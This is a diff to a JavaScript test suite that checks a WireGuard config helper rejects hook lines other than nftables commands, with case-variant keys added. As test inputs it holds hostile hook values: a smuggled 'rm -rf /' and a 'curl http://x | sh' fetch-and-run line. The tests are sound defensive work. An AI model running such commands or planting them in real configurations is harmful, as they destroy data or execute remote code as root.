@@ -57,11 +57,18 @@ describe('host command pieces', () => {
       "PostUp = nft 'x'; rm -rf /",
       "PreUp = nft 'a' 'b'",
       'PostDown = nft list ruleset',
+      // Review: wg-quick matches keys with nocasematch, so these run as root like PostUp does.
+      'POSTUP = touch /tmp/pwned',
+      'postup=curl http://x | sh',
+      '  PreDown   =  touch /tmp/pwned',
     ]) {
       expect(() => fillPrivateKey(text.replace("PostUp = nft 'add table inet x'", hook), 'K=')).toThrow(/not an nftables command/);
     }
     expect(() => fillPrivateKey('[Interface]\nAddress = 1.2.3.4/32\n', 'K=')).toThrow(/0 PrivateKey lines/);
     expect(() => fillPrivateKey('[Peer]\nPrivateKey = x\n', 'K=')).toThrow(/0 PrivateKey lines/);
+    expect(fillPrivateKey("[INTERFACE]\nprivatekey = X\nPostUp = nft 'add table inet x' # comment\n", 'K=')).toBe(
+      "[INTERFACE]\nPrivateKey = K=\nPostUp = nft 'add table inet x' # comment\n",
+    );
   });
 
   it('writes the address of each endpoint name that resolves, leaves out the others, and looks each name up once', async () => {
